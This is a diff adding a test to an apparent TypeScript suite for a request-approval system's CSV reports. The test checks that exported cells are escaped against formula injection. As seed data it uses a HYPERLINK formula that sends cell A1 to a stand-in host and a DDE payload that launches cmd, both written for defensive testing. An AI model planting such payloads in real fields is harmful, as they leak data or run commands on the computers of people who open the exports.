@@ -130,6 +130,38 @@ describe("CSV reports", () => {
   });
 });
 
+describe("CSV reports opened in a spreadsheet", () => {
+  it("carry no cell that would run as a formula, in any report", async () => {
+    const caseC = await makeCase("Report case C");
+    const formula = '=HYPERLINK("https://x.example/?q="&A1,"Open the ticket") for sign-ins of j.smith';
+    const { id } = await ines.requests.create({
+      caseId: caseC.id,
+      actionKey: "logs.query",
+      params: logs,
+      justification: formula,
+      minutes: 10,
+    });
+    const { paramsHash } = (await priya.requests.review({ requestId: id })).request;
+    const decided = await priya.requests.decide({
+      requestId: id,
+      paramsHashSeen: paramsHash,
+      decision: "approve",
+      comment: "+cmd|' /C calc'!A0",
+    });
+    await ines.actions.execute({ caseId: caseC.id, grantId: decided.grantId ?? "", params: logs });
+    const formulaStart = /^[=+\-@\t\r]/;
+    for (const report of ["requests.csv", "decisions.csv", "grants.csv", "executions.csv"]) {
+      const rows = await csvOf(report, { case: caseC.key });
+      expect(rows.length, report).toBeGreaterThan(1);
+      for (const cell of rows.flat()) expect(cell, report).not.toMatch(formulaStart);
+    }
+    const [, request] = await csvOf("requests.csv", { case: caseC.key });
+    expect(request?.[14]).toBe(`'${formula}`);
+    const [, decision] = await csvOf("decisions.csv", { case: caseC.key });
+    expect(decision?.[8]).toBe("'+cmd|' /C calc'!A0");
+  });
+});
+
 describe("scope input", () => {
   const bad = async (scope: { case?: string; from?: string; to?: string }) =>
     generateReport(t.db, carla, { report: "requests.csv", scope, ledger: identity }).then(
